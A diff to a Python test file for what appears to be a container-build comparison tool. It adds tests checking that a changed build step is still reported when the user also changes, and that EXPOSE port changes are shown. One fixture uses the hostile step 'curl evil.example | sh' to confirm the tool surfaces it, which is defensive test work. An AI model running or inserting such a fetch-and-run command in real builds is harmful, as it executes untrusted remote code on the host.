@@ -347,6 +347,21 @@ def test_a_long_step_is_told_by_what_differs_in_it() -> None:
     assert shown["added"][0].endswith("2~bookworm")
 
 
+def test_a_changed_user_does_not_hide_a_changed_step() -> None:
+    evil = build(run("curl evil.example | sh"), user("app"), base=redis(1))
+    reason = explain(redis(0), evil, versions=("6.2.14", "6.2.14")).reason
+    assert "user (root to app) changed, and 1 build step differs" in reason
+    assert "evil.example" in reason
+    plain = explain(redis(0), build(user("app"), base=redis(1)), versions=("6.2.14", "6.2.14"))
+    assert plain.reason.endswith("user (root to app) changed")
+
+
+def test_a_setting_is_told_with_what_it_became() -> None:
+    before, after = (build(run("make", n=port), expose(port), base=debian()) for port in ("1", "2"))
+    reason = explain(before, after, versions=("1.0", "1.0")).reason
+    assert "-'EXPOSE 1', +'EXPOSE 2'" in reason
+
+
 def test_steps_in_another_order_are_told_so() -> None:
     steps = [(run("one", a=str(n)), run("two", b=str(n))) for n in range(2)]
     before, after = build(*steps[0], base=debian()), build(*steps[1][::-1], base=debian())
